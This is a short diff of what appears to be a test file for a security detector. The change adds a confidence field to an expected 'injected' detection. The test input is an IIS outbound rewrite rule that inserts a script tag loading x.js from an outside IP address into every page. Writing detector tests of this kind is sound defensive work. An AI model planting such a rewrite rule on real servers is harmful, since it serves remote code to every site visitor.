@@ -38,7 +38,7 @@ testDetector(detector, {
       input: outbound(
         '<rule name="footer" preCondition="html"><match filterByTags="None" pattern="&lt;/body>" /><action type="Rewrite" value="&lt;script src=//203.0.113.4/x.js>&lt;/script>&lt;/body>" /></rule>',
       ),
-      detections: [{ message: 'injected', at: { line: 3 }, severity: 'critical' }],
+      detections: [{ message: 'injected', at: { line: 3 }, severity: 'critical', confidence: 'strong' }],
     },
     {
       name: 'mitigations by name that no longer do their work',
